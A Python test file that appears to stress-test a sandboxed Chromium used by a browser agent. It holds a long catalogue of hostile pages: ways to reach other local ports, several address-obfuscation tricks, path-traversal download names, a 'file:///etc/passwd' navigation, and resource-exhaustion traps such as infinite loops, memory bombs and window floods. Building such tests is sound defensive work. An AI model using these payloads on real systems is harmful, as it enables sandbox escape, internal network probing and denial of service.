"""Pages that want out of their server, and pages that want to take their episode, the browser or the machine with them.

`hostile_pages`: everything that a page can send with, to ears on other ports and addresses of this machine, TCP and UDP,
in a real Chromium behind each wall (`worlds/browser/chromium.py`). It held if no ear heard anything and the try was told.
`page_limits`: pages that hang, eat memory, go away while loading, open windows. It held if the turn ended within its
limit, as an outcome of the episode, and the next episode in its place was won.
"""

import os
import selectors
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

import psutil
from attack import Attack, Outcome

from qwenvl_agent.schema import ToolCall, Turn
from qwenvl_agent.worlds.browser import session
from qwenvl_agent.worlds.browser.env import BrowserEnv
from qwenvl_agent.worlds.browser.namespace import open_namespace
from qwenvl_agent.worlds.browser.problem import SiteProblem, Task
from qwenvl_agent.worlds.browser.rules import BrowserRules
from qwenvl_agent.worlds.browser.server import Asked, Response
from qwenvl_agent.worlds.browser.session import BrowserThread, return_browser
from qwenvl_agent.worlds.browser.tasks import TASKS
from qwenvl_agent.worlds.browser.window import Frame

CLICK = Turn(tool_calls=(ToolCall("computer_use", {"action": "left_click", "coordinate": [500, 500]}),))
WAIT = Turn(tool_calls=(ToolCall("computer_use", {"action": "wait", "time": 1}),))
WHOLE = "style='position:fixed;inset:0;width:100%;height:100%'"
STEP_SECONDS = 6.0


class Ears:
    """Listeners for TCP and UDP on every address of this machine, on ports of their own; `heard` is what came."""

    def __init__(self):
        self.heard: list[str] = []
        self.ports: dict[str, int] = {}
        self._selector = selectors.DefaultSelector()
        for address in addresses():
            self._open(address)
        threading.Thread(target=self._listen, daemon=True).start()

    def _open(self, address: str) -> None:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        tcp = socket.socket(family, socket.SOCK_STREAM)
        tcp.bind((address, 0))
        tcp.listen(64)
        port = self.ports[address] = tcp.getsockname()[1]
        udp = socket.socket(family, socket.SOCK_DGRAM)
        udp.bind((address, port))
        for ear, kind in ((tcp, "tcp"), (udp, "udp")):
            self._selector.register(ear, selectors.EVENT_READ, f"{kind} {address}:{port}")

    def _listen(self) -> None:
        while True:
            for key, _ in self._selector.select():
                with suppress(OSError):
                    if key.data.startswith("tcp"):
                        connection, _ = key.fileobj.accept()
                        connection.close()
                    else:
                        key.fileobj.recv(65536)
                self.heard.append(key.data)


def addresses() -> list[str]:
    """Loopback ones, a second one of them, and those that other machines know."""
    own = [one for card in psutil.net_if_addrs().values() for one in card]
    v4 = [one.address for one in own if one.family == socket.AF_INET and not one.address.startswith("127.")]
    v6 = [
        one.address for one in own if one.family == socket.AF_INET6 and "%" not in one.address and one.address != "::1"
    ]
    has_v6 = any(one.address == "::1" for one in own)
    return ["127.0.0.1", "127.0.0.2", *v4[:1], *(["::1"] if has_v6 else []), *v6[:1]]


@dataclass(frozen=True)
class Way:
    """`body` of a page, with HOST, PORT and URL of an ear. `pages`: more of the page's own server. `is_told`: whether
    Chromium tries it at all, so that it must be told."""

    name: str
    body: str
    pages: dict[str, Response] = field(default_factory=dict)
    is_told: bool = True
    headers: str = ""


def script(code: str) -> str:
    return f"<script>{code}</script>"


def at_click(code: str) -> str:
    return f'<button {WHOLE} onclick="{code}">Go</button>'


def js(code: str) -> Response:
    return Response(code.encode(), "text/javascript")


def html(code: str) -> Response:
    return Response(code.encode())


SENDS = (
    "fetch('URL', {mode: 'no-cors'}).catch(() => 0); try { new WebSocket('ws://HOST:PORT/') } catch (e) {}"
    "try { new EventSource('URL') } catch (e) {}"
    "try { const x = new XMLHttpRequest(); x.open('POST', 'URL'); x.send('a') } catch (e) {}"
    "try { new WebTransport('https://HOST:PORT/').ready.catch(() => 0) } catch (e) {}"
    "try { importScripts('URL') } catch (e) {}"
)


def peer(server: str) -> str:
    return script(
        f"const pc = new RTCPeerConnection({{iceServers: [{{urls: '{server}', username: 'a', credential: 'b'}}]}});"
        "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))"
    )


CANDIDATE = script(
    "const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel('x');"
    "a.createOffer().then(async o => { await a.setLocalDescription(o); await b.setRemoteDescription(o);"
    "const r = await b.createAnswer(); await b.setLocalDescription(r); await a.setRemoteDescription(r);"
    "for (const c of ['candidate:1 1 udp 2113937151 HOST PORT typ host', 'candidate:2 1 tcp 1518280447 HOST PORT typ host"
    " tcptype passive']) await a.addIceCandidate({candidate: c, sdpMid: '0', sdpMLineIndex: 0}).catch(() => 0) })"
)
RULES = (
    '<script type="speculationrules">{"%s": [{"source": "list", "urls": ["URL"], "eagerness": "immediate"}]}</script>'
)
WAYS = (
    Way("fetch", script("fetch('URL', {mode: 'no-cors'}).catch(() => 0)")),
    Way("fetch kept alive", script("fetch('URL', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'a'})")),
    Way("beacon", script("navigator.sendBeacon('URL', 'a')")),
    Way("XMLHttpRequest", script("const x = new XMLHttpRequest(); x.open('POST', 'URL'); x.send('a')")),
    Way("EventSource", script("new EventSource('URL')")),
    Way("WebSocket", script("new WebSocket('ws://HOST:PORT/')")),
    Way("WebSocket with TLS", script("new WebSocket('wss://HOST:PORT/')")),
    Way("WebSocketStream", script("new WebSocketStream('ws://HOST:PORT/')"), is_told=False),
    Way("WebTransport", script("new WebTransport('https://HOST:PORT/').ready.catch(() => 0)"), is_told=False),
    Way("image", '<img src="URL">'),
    Way("image by https", '<img src="https://HOST:PORT/">'),
    Way("script", '<script src="URL"></script>'),
    Way("module", script("import('URL').catch(() => 0)")),
    Way("style", '<link rel="stylesheet" href="URL">'),
    Way("imported style", "<style>@import 'URL'; body { background: url(URL2) }</style>"),
    Way("font", "<style>@font-face { font-family: f; src: url(URL) } body { font-family: f }</style>text"),
    Way("video", '<video src="URL" autoplay muted></video>'),
    Way("object", '<object data="URL"></object><embed src="URL">'),
    Way("frame", '<iframe src="URL"></iframe>'),
    Way("frame of text", '<iframe sandbox="allow-scripts" srcdoc="<script>fetch(`URL`)</script>"></iframe>'),
    Way(
        "frame of data", "<iframe src=\"data:text/html,<script>fetch('URL');new WebSocket('ws://HOST:PORT')</script>\">"
    ),
    Way("svg", '<svg><image href="URL"/></svg>'),
    Way("icon", '<link rel="icon" href="URL">', is_told=False),
    Way("manifest", '<link rel="manifest" href="URL">', is_told=False),
    Way("preload", '<link rel="preload" as="image" href="URL"><link rel="modulepreload" href="URL">'),
    Way("prefetch", '<link rel="prefetch" href="URL">'),
    Way(
        "preconnect",
        '<link rel="preconnect" href="URL"><link rel="preconnect" href="https://HOST:PORT">',
        is_told=False,
    ),
    Way("DNS prefetch", '<link rel="dns-prefetch" href="//ear.HOST:PORT">', is_told=False),
    Way("speculation rules, prefetch", RULES % "prefetch", is_told=False),
    Way("speculation rules, prerender", RULES % "prerender", is_told=False),
    Way("ping", '<a id="a" href="#x" ping="URL">a</a>' + script("a.click()")),
    Way("form", '<form id="f" method="post" action="URL"><input name="a" value="b"></form>' + script("f.submit()")),
    Way(
        "form into a frame",
        '<iframe name="n"></iframe><form id="f" action="URL" target="n"></form>' + script("f.submit()"),
    ),
    Way("location", script("location = 'URL'")),
    Way("location at a click", at_click("location = 'URL'")),
    Way("meta refresh", '<meta http-equiv="refresh" content="0; url=URL">'),
    Way("meta refresh by https", '<meta http-equiv="refresh" content="0; url=https://HOST:PORT/">'),
    Way("window at load", script("open('URL')")),
    Way("window at a click", at_click("window.open('URL')")),
    Way("window without opener", at_click("window.open('URL', '_blank', 'noopener')")),
    Way("link into a new window", f'<a {WHOLE} target="_blank" href="URL">Go</a>'),
    Way("window that goes on", at_click("const w = window.open('about:blank'); w.location = 'URL'")),
    Way("window that sends", at_click("window.open('sender')"), {"sender": html(script(SENDS))}),
    Way("form into a new window", at_click("f.submit()") + '<form id="f" action="URL" target="_blank"></form>'),
    Way("download", f'<a {WHOLE} download href="URL">Go</a>'),
    Way(
        "download by script",
        script("const a = document.createElement('a'); a.download = 'x'; a.href = 'URL'; a.click()"),
    ),
    Way("worker", script("new Worker('w.js')"), {"w.js": js(SENDS)}),
    Way("worker of a worker", script("new Worker('v.js')"), {"v.js": js("new Worker('w.js')"), "w.js": js(SENDS)}),
    Way("worker of a blob", script("new Worker(window['U'+'RL']['createObjectU'+'RL'](new Blob([`" + SENDS + "`])))")),
    Way("module worker", script("new Worker('w.js', {type: 'module'})"), {"w.js": js("import 'URL'")}),
    Way("shared worker", script("new SharedWorker('w.js')"), {"w.js": js(SENDS)}),
    Way("shared worker elsewhere", script("new SharedWorker('URL')"), is_told=False),
    Way("worker elsewhere", script("try { new Worker('URL') } catch (e) {}"), is_told=False),
    Way(
        "service worker",
        script("navigator.serviceWorker.register('w.js').catch(() => 0)"),
        {"w.js": js(SENDS)},
        is_told=False,
    ),
    Way(
        "worklet",
        script("CSS.paintWorklet.addModule('URL').catch(() => 0); new AudioContext().audioWorklet.addModule('URL')"),
    ),
    Way("STUN", peer("stun:HOST:PORT"), is_told=False),
    Way("TURN, UDP", peer("turn:HOST:PORT?transport=udp"), is_told=False),
    Way("TURN, TCP", peer("turn:HOST:PORT?transport=tcp")),
    Way("TURN, TLS", peer("turns:HOST:PORT?transport=tcp")),
    Way("STUN by a name", peer("stun:ear.localhost:PORT"), is_told=False),
    Way("ICE candidates", CANDIDATE, is_told=False),
    Way("redirected image", '<img src="redirect?URL">'),
    Way("redirected document", script("location = 'redirect?URL'")),
    Way("redirected fetch", script("fetch('redirect?URL', {mode: 'no-cors'}).catch(() => 0)")),
    Way("redirected frame", '<iframe src="redirect?URL"></iframe>'),
    Way("redirected worker", script("new Worker('redirect?URL')"), is_told=False),
    Way("redirected download", '<a id="a" download href="redirect?URL">a</a>' + script("a.click()")),
    Way("redirected window", at_click("window.open('redirect?URL')")),
    Way("preload by a header", "<p>Link</p>", headers="Link"),
    Way("report of a violation", '<img src="data:,"><p>CSP</p>' + script("eval('1')"), headers="Violation"),
    # Kept and sent together, a minute later.
    Way("reports by a header", "<p>CSP</p>" + script("eval('1')"), is_told=False, headers="Report"),
    Way("refresh by a header", "<p>Refresh</p>", headers="Refresh"),
    Way("attribution", '<img attributionsrc="URL" src="data:,">', is_told=False),
    Way(
        "identity",
        script(
            "navigator.credentials.get({identity: {providers: [{configURL: 'URL', clientId: 'a'}]}}).catch(() => 0)"
        ),
        is_told=False,
    ),
    Way(
        "interest group",
        script("navigator.joinAdInteractionGroup?.({owner: location.origin, name: 'a', updateURL: 'URL'}, 9)"),
        is_told=False,
    ),
    Way("WebAssembly", script("WebAssembly.compileStreaming(fetch('URL', {mode: 'no-cors'})).catch(() => 0)")),
    Way(
        "stylesheet of XML",
        '<iframe src="x.xml"></iframe>',
        {"x.xml": Response(b'<?xml-stylesheet href="URL" type="text/xsl"?><a/>', "text/xml")},
        is_told=False,
    ),
    Way(
        "subresource of a frame's frame",
        '<iframe src="inner"></iframe>',
        {"inner": html('<iframe srcdoc="<img src=URL>"></iframe>')},
    ),
)
"""What a page can send with. Names and places of the ears are put in by `filled`."""

SPELLINGS: tuple[tuple[str, Callable[[str, int], str]], ...] = (
    ("as it is", lambda host, port: f"http://{host}:{port}/x"),
    ("as a number", lambda host, port: f"http://{int.from_bytes(socket.inet_aton(host))}:{port}/x"),
    ("in hexadecimal", lambda host, port: f"http://0x{int.from_bytes(socket.inet_aton(host)):x}:{port}/x"),
    ("in IPv6", lambda host, port: f"http://[::ffff:{host}]:{port}/x"),
    ("as localhost", lambda host, port: f"http://localhost:{port}/x"),
    ("below localhost", lambda host, port: f"http://ear.localhost:{port}/x"),
    ("with its server as a user", lambda host, port: f"http://127.0.0.1:OWN@{host}:{port}/x"),
    ("with a backslash", lambda host, port: f"http:\\\\\\\\{host}:{port}/x"),
    ("any address", lambda host, port: f"http://0.0.0.0:{port}/x"),
)


def filled(text: str, url: str, host: str, port: int) -> str:
    name = f"[{host}]" if ":" in host else host
    return text.replace("URL2", url + "2").replace("URL", url).replace("HOST", name).replace("PORT", str(port))


def site(way: Way, url: str, host: str, port: int) -> SiteProblem:
    """The way's pages, and a redirect to wherever it is asked to. More headers ride on the kind, which is sent as it is."""

    def fill(response: Response) -> Callable[[Asked], Response]:
        filled_in = Response(filled(response.body.decode(), url, host, port).encode(), response.kind)
        return lambda asked: filled_in

    body = f"<!DOCTYPE html><title>T</title><body style='margin:0'>{filled(way.body, url, host, port)}"
    more = {
        "": "",
        "Link": f"\r\nLink: <{url}>; rel=preload; as=image, <{url}>; rel=preconnect",
        "Violation": f"\r\nContent-Security-Policy: script-src 'nonce-a'; report-uri {url}",
        "Report": f"\r\nContent-Security-Policy: script-src 'nonce-a'; report-to a"
        f'\r\nReporting-Endpoints: a="{url}"\r\nReport-To: {{"group":"a","max_age":9,"endpoints":[{{"url":"{url}"}}]}}'
        '\r\nNEL: {"report_to":"a","max_age":9,"success_fraction":1.0}',
        "Refresh": f"\r\nRefresh: 0; url={url}",
    }[way.headers]
    first = Response(body.encode(), f"text/html; charset=utf-8{more}")
    pages = {path: fill(response) for path, response in way.pages.items()}
    return SiteProblem(
        name="hostile",
        instruction="Do it.",
        pages={"": lambda asked: first, "redirect": redirected, "won": lambda asked: Response(), **pages},
        goals={"won": lambda effects: bool(effects.sent("won"))},
        frame=Frame(width=400, height=300),
    )


def redirected(asked: Asked) -> Response:
    (where,) = asked.fields
    return Response(b"", f"text/html\r\nLocation: {where}", 302)


def env_at(made: SiteProblem, **rules) -> BrowserEnv:
    """An environment that plays this problem."""
    TASKS["hostile"] = Task("hostile", lambda seed, rng, language, family: made)
    return BrowserEnv(BrowserRules.from_json({"tasks": ["hostile"], "step_seconds": STEP_SECONDS, **rules}))


# Pages that want out


def walls() -> list[str]:
    namespace = open_namespace()
    if namespace is None:
        return ["proxy"]
    namespace.close()
    return ["namespace", "proxy"]


def take_wall(wall: str) -> None:
    """The next environment plays in a browser behind this wall; the other one is kept aside."""
    PARKED.extend(session._idle)
    session._idle.clear()
    wanted = [browser for browser in PARKED if browser._has_namespace == (wall == "namespace") and not browser.is_lost]
    PARKED[:] = [browser for browser in PARKED if browser not in wanted and not browser.is_lost]
    for browser in wanted or [BrowserThread(has_namespace=wall == "namespace")]:
        return_browser(browser)


PARKED: list[BrowserThread] = []


def close_all() -> None:
    session._idle.extend(PARKED)
    PARKED.clear()
    session.close_browsers()


def plan() -> list[tuple[str, Way, str, str]]:
    """(wall, way, address, spelling) of each case: ways and spellings first, then the other addresses."""
    places, found = addresses(), []
    spelt = [("127.0.0.1", name) for name, _ in SPELLINGS[1:]]
    for turn in range(len(places)):
        for number, way in enumerate(WAYS):
            found.append((way, places[(number + turn) % len(places)], "as it is"))
        found += [(WAYS[(turn * 7 + i) % len(WAYS)], *one) for i, one in enumerate(spelt)]
    return [(wall, *one) for one in found for wall in walls()]


def attack_walls(seed: int, cases: Sequence[int], scratch: Path) -> Iterator[Outcome]:
    ears, planned = Ears(), plan()
    for case in cases:
        wall, way, host, spelling = planned[case % len(planned)]
        yield try_way(ears, wall, way, host, spelling)
    close_all()


def try_way(ears: Ears, wall: str, way: Way, host: str, spelling: str) -> Outcome:
    port = ears.ports[host]
    write = dict(SPELLINGS)[spelling]
    url = f"http://[{host}]:{port}/x" if ":" in host else write(host, port)
    kind = f"{wall}: {way.name}" if spelling == "as it is" else f"{wall}: address {spelling}"
    ears.heard.clear()
    take_wall(wall)
    env = env_at(site(way, url.replace("OWN", str(page_port())), host, port), episode_seconds=60)
    try:
        told = list(env.reset(seed=0)[1]["events"])
        for turn in (CLICK, WAIT):
            if not env.end_reason:
                told += env.step(turn)[4]["events"]
    except Exception as error:
        return Outcome(kind, False, f"{type(error).__name__}: {error}"[:300])
    finally:
        env.close()
    if ears.heard:
        return Outcome(kind, False, f"heard: {ears.heard[0]}")
    # `fetch` takes no address with a user (Fetch Standard, constructor of Request): nothing is sent that could be told of.
    is_sent = way.is_told and not ("@" in url and "fetch(" in way.body)
    is_told = any(event.startswith(("blocked", "new window")) for event in told)
    if is_sent and not is_told:
        return Outcome(kind, False, f"nothing was told of it: {told}")
    return Outcome(kind, True)


def page_port() -> int:
    from qwenvl_agent.worlds.browser.server import page_server

    return page_server().server_port


# Pages that cost


@dataclass(frozen=True)
class Trap:
    """A page that costs its episode. `is_told`: whether the turn must go on regardless."""

    name: str
    body: str
    pages: dict[str, Callable[[Asked], Response]] = field(default_factory=dict)


def slow_page(num_bytes: int) -> Callable[[Asked], Response]:
    return lambda asked: Response(b"<p>a</p>" * (num_bytes // 8))


FILL = "const a = []; setInterval(() => { for (let i = 0; i < 8; i++) %s }, 1)"
TRAPS = (
    Trap("hangs at load", script("for (;;);")),
    Trap("hangs at a click", at_click("for (;;);")),
    Trap("hangs a little later", script("setTimeout(() => { for (;;); }, 400)")),
    Trap("message boxes without end", at_click("for (;;) alert(1)")),
    Trap("message boxes at load", script("for (let i = 0; i < 30; i++) alert(i)")),
    Trap("questions when left", script("onbeforeunload = e => e.preventDefault()") + at_click("location = 'next'")),
    Trap("100 windows at load", script("for (let i = 0; i < 100; i++) open('next?' + i)")),
    Trap("100 windows at a click", at_click("for (let i = 0; i < 100; i++) open('next?' + i)")),
    Trap("100 windows one by one", script("setInterval(() => open('next'), 10)") + at_click("open('next')")),
    Trap(
        "windows of links",
        at_click(
            "for (let i = 0; i < 100; i++) { const a = document.createElement('a'); a.target = '_blank'; a.href = 'next?' + i; a.click() }"
        ),
    ),
    Trap(
        "windows that open windows",
        at_click("open('breed')"),
        {"breed": lambda asked: html(script("open('breed'); setInterval(() => open('breed'), 9)"))},
    ),
    Trap("a window that hangs", at_click("open('hang')"), {"hang": lambda asked: html(script("for (;;);"))}),
    Trap(
        "a window with message boxes",
        at_click("open('boxes')"),
        {"boxes": lambda asked: html(script("for (;;) alert(1)"))},
    ),
    Trap("a window that never comes", at_click("open('never')"), {"never": lambda asked: Response(never=True)}),
    Trap("it closes itself", at_click("close()")),
    Trap("it prints", at_click("print()")),
    Trap(
        "goes away while loading",
        script("location = 'next'"),
    ),
    Trap("goes away for ever", script("location = '?' + Math.random()")),
    Trap("refreshes for ever", '<meta http-equiv="refresh" content="0">'),
    Trap("reloads for ever", script("onload = () => location.reload()")),
    Trap(
        "goes back and forth",
        script(
            "history.pushState(0, '', 'a'); setInterval(() => history.back(), 1); setInterval(() => history.forward(), 2)"
        ),
    ),
    Trap("never ends to load", '<img src="never">', {"never": lambda asked: Response(never=True)}),
    Trap("goes where nothing comes", at_click("location = 'never'"), {"never": lambda asked: Response(never=True)}),
    Trap(
        "writes itself for ever",
        script("setInterval(() => { document.open(); document.write('<p>' + Math.random()); document.close() }, 1)"),
    ),
    Trap("memory: numbers", script(FILL % "a.push(new Array(1e6).fill(i + Math.random()))")),
    Trap("memory: buffers", script(FILL % "a.push(new Uint8Array(2 ** 27).fill(i + 1))")),
    Trap(
        "memory: text",
        script(
            "let t = 'a'.repeat(2 ** 20); const a = []; setInterval(() => { for (let i = 0; i < 99; i++) a.push((t + i).split('').join('b')) }, 1)"
        ),
    ),
    Trap(
        "memory: elements",
        script(
            "setInterval(() => { for (let i = 0; i < 1e5; i++) document.body.append(document.createElement('p')) }, 1)"
        ),
    ),
    Trap(
        "memory: pictures",
        script(
            FILL
            % "{ const c = new OffscreenCanvas(8000, 8000), x = c.getContext('2d'); x.fillRect(0, 0, 8000, 8000); a.push(c, x.getImageData(0, 0, 8000, 8000)) }"
        ),
    ),
    Trap("memory: blobs", script(FILL % "a.push(new Blob([new Uint8Array(2 ** 26)]))")),
    Trap(
        "memory: workers",
        script(
            "for (let i = 0; i < 400; i++) new Worker(window['U'+'RL'].createObjectURL(new Blob(['const a=[];for(;;)a.push(new Uint8Array(2**24).fill(1))'])))"
        ),
    ),
    Trap("memory: at a click", at_click("const a = []; for (;;) a.push(new Uint8Array(2 ** 26).fill(1))")),
    Trap(
        "300 frames",
        script(
            "for (let i = 0; i < 300; i++) document.body.append(Object.assign(document.createElement('iframe'), {src: 'next?' + i}))"
        ),
    ),
    Trap("frames in frames", '<iframe src=""></iframe><iframe src="?a"></iframe>'),
    Trap("a large page", "<p>large</p>", {"": slow_page(30_000_000)}),
    Trap(
        "deep elements",
        script(
            "let e = document.body; for (let i = 0; i < 1e5; i++) { const d = document.createElement('div'); e.append(d); e = d }"
        ),
    ),
    Trap("a high page", "<div style='height: 1e9px'></div>" + script("setInterval(() => scrollBy(0, 1e6), 1)")),
    Trap("many requests", script("for (let i = 0; i < 20000; i++) fetch('next?' + i).catch(() => 0)")),
    Trap(
        "much is sent",
        script("setInterval(() => fetch('won2', {method: 'POST', body: 'a='.padEnd(9e5, 'b')}).catch(() => 0), 1)"),
    ),
    Trap("more than may be sent", at_click("fetch('won2', {method: 'POST', body: 'a='.padEnd(5e6, 'b')})")),
    Trap(
        "100 downloads",
        script(
            "for (let i = 0; i < 100; i++) { const a = document.createElement('a'); a.download = i + '.txt'; a.href = 'data:text/plain,' + i; a.click() }"
        ),
    ),
    Trap(
        "a download without end",
        at_click("location = 'endless'"),
        {"endless": lambda asked: Response(never=True, is_file=True)},
    ),
    Trap(
        "a large download",
        script(
            "const a = document.createElement('a'); a.download = 'x'; a.href = window['U'+'RL'].createObjectURL(new Blob([new Uint8Array(2 ** 28)])); a.click()"
        ),
    ),
    Trap(
        "names of files",
        script(
            "for (const n of ['../../x', '/etc/x', 'a'.repeat(400), '..', 'con', '\\ud800', 'a\\0b', '']) { const a = document.createElement('a'); a.download = n; a.href = 'data:text/plain,a'; a.click() }"
        ),
    ),
    Trap("fetch never answers", script("fetch = () => new Promise(() => 0)")),
    Trap("frames never come", script("requestAnimationFrame = () => 0; setTimeout = () => 0")),
    Trap(
        "its tools are broken",
        script(
            "JSON.stringify = Promise = Object = null; Array.prototype.toJSON = () => { throw 1 }; document.readyState2 = 1"
        ),
    ),
    Trap("its state is a lie", script("Object.defineProperty(document, 'readyState', {get: () => 'loading'})")),
    Trap(
        "titles with half characters",
        script(
            "document.title = '\\ud800'; history.replaceState(0, '', '?\\udfff'); setInterval(() => document.title = '\\ud800' + Math.random(), 5)"
        ),
    ),
    Trap("messages with half characters", at_click("alert('\\ud800'); confirm('\\udc00')")),
    Trap(
        "it takes the whole screen",
        at_click(
            "document.documentElement.requestFullscreen(); document.body.requestPointerLock(); navigator.keyboard.lock()"
        ),
    ),
    Trap(
        "it asks for everything",
        at_click(
            "navigator.geolocation.getCurrentPosition(() => 0); Notification.requestPermission(); navigator.mediaDevices.getUserMedia({video: true}); navigator.usb.requestDevice({filters: []}); showOpenFilePicker(); new PaymentRequest([{supportedMethods: 'https://a.invalid'}], {total: {label: 'a', amount: {currency: 'EUR', value: '1'}}}).show()"
        ),
    ),
    Trap("a choice of files", at_click("i.click()") + "<input id=i type=file webkitdirectory>"),
    Trap(
        "programs of the machine",
        at_click(
            "for (const u of ['mailto:a@b', 'ssh://a', 'file:///etc/passwd', 'chrome://crash', 'view-source:next', 'javascript:alert(1)']) location = u"
        ),
    ),
    Trap("expensive styles", "<style>* { filter: blur(99px); backdrop-filter: blur(99px) }</style>" + "<div>" * 300),
    Trap("expensive patterns", at_click("/^(a+)+$/.test('a'.repeat(40) + 'b')")),
    Trap(
        "much is logged",
        script("setInterval(() => { for (let i = 0; i < 1000; i++) console.log('a'.repeat(9999)) }, 1)"),
    ),
    Trap(
        "much is thrown",
        script("setInterval(() => { for (let i = 0; i < 1000; i++) Promise.reject(new Error('a')) }, 1)"),
    ),
    Trap(
        "the tab crashes",
        at_click(
            "const m = new WebAssembly.Memory({initial: 65536, maximum: 65536}); new Uint8Array(m.buffer).fill(1)"
        ),
    ),
    Trap(
        "graphics without end",
        "<canvas id=c></canvas>"
        + script(
            "const g = c.getContext('webgl'); if (g) setInterval(() => { for (let i = 0; i < 1e4; i++) g.clear(16384) }, 1)"
        ),
    ),
    Trap(
        "speech and sound",
        at_click(
            "speechSynthesis.speak(new SpeechSynthesisUtterance('a'.repeat(1e6))); for (let i = 0; i < 99; i++) new AudioContext()"
        ),
    ),
    Trap(
        "storage",
        script(
            "(async () => { for (let i = 0; i < 1e3; i++) { try { localStorage[i] = 'a'.repeat(1e6) } catch (e) {} const c = await caches.open('a'); await c.put('/' + i, new Response(new Uint8Array(2 ** 25))) } })()"
        ),
    ),
    Trap(
        "cookies",
        script("for (let i = 0; i < 500; i++) document.cookie = i + '=' + 'a'.repeat(4000)")
        + at_click("location = 'next'"),
    ),
)
EPISODE_LIMIT_S = 150.0
"""Of reset and turns of a trap, on a crowded machine: two turns of STEP_SECONDS, and starts of browsers."""
BENIGN = f"<button {WHOLE} onclick=\"fetch('won', {{method: 'POST'}})\">Win</button>"


def trap_site(trap: Trap) -> SiteProblem:
    page = html(f"<!DOCTYPE html><title>T</title><body style='margin:0'>{trap.body}")
    following = html("<p>next</p>")
    return SiteProblem(
        name="hostile",
        instruction="Do it.",
        pages={"": lambda asked: page, "next": lambda asked: following, "won2": lambda asked: Response(), **trap.pages},
        goals={"won": lambda effects: bool(effects.sent("won"))},
        frame=Frame(width=400, height=300),
    )


def attack_limits(seed: int, cases: Sequence[int], scratch: Path) -> Iterator[Outcome]:
    session.PREPARE_SECONDS = 30
    available = walls()
    for case in cases:
        wall = available[case // len(TRAPS) % len(available)]
        take_wall(wall)
        yield try_trap(TRAPS[case % len(TRAPS)], wall, scratch)
    close_all()


def try_trap(trap: Trap, wall: str, scratch: Path) -> Outcome:
    kind = f"{wall}: {trap.name}"
    started, peak = time.monotonic(), Peak()
    env = env_at(trap_site(trap), downloads_dir=str(scratch / "kept"))
    fault = ""
    try:
        fault = play(env)
    finally:
        env.close()
        largest = peak.stop()
    seconds = time.monotonic() - started
    if not fault and seconds > EPISODE_LIMIT_S:
        fault = f"took {seconds:.0f} s"
    if not fault and largest > 2 * session.MAX_MEMORY_BYTES:
        fault = f"took {largest / 2**30:.1f} GiB"
    escaped = [path for path in scratch.rglob("*") if path.is_file() and scratch / "kept" not in path.parents]
    fault = fault or ("a file left its folder" if escaped else "") or play_benign(wall)
    shutil.rmtree(scratch / "kept", ignore_errors=True)
    return Outcome(kind, not fault, fault)


def play(env: BrowserEnv) -> str:
    """What went wrong in an episode of a trap: an outcome is none, and an error is."""
    try:
        env.reset(seed=0)
    except session.LostBrowserError:
        return ""
    except Exception as error:
        return f"reset: {type(error).__name__}: {error}"[:300]
    for turn in (CLICK, WAIT):
        if env.end_reason:
            return ""
        started = time.monotonic()
        try:
            env.step(turn)
        except Exception as error:
            return f"step: {type(error).__name__}: {error}"[:300]
        if time.monotonic() - started > STEP_SECONDS + 30:
            return f"a turn took {time.monotonic() - started:.0f} s, its limit is {STEP_SECONDS:g} s"
    return ""


def play_benign(wall: str) -> str:
    """What went wrong in the episode after it."""
    take_wall(wall)
    env = env_at(trap_site(Trap("benign", BENIGN)), step_seconds=60)
    try:
        env.reset(seed=1)
        _, reward, _, _, info = env.step(CLICK)
        return "" if reward == 1.0 else f"the next episode was not won: {info['end_reason']} {info['events']}"[:300]
    except Exception as error:
        return f"the next episode: {type(error).__name__}: {error}"[:300]
    finally:
        env.close()


class Peak:
    """The most memory that this process's children take while it runs."""

    def __init__(self):
        self._process, self._done, self._largest = psutil.Process(os.getpid()), threading.Event(), 0
        self._thread = threading.Thread(target=self._watch)
        self._thread.start()

    def _watch(self) -> None:
        while not self._done.wait(0.3):
            self._largest = max(self._largest, session.memory_of(self._process))

    def stop(self) -> int:
        self._done.set()
        self._thread.join()
        return self._largest


ATTACKS = (
    Attack(
        "hostile_pages",
        "a page sends by every way that Chromium has to other ports and addresses of this machine",
        full=len(plan()),
        quick=24,
        seconds=3600,
        processes=3,
        run=attack_walls,
    ),
    Attack(
        "page_limits",
        "a page hangs, eats memory, goes away while it loads, opens 100 windows",
        full=len(walls()) * len(TRAPS),
        quick=3,
        seconds=3600,
        processes=3,
        run=attack_limits,
    ),
)
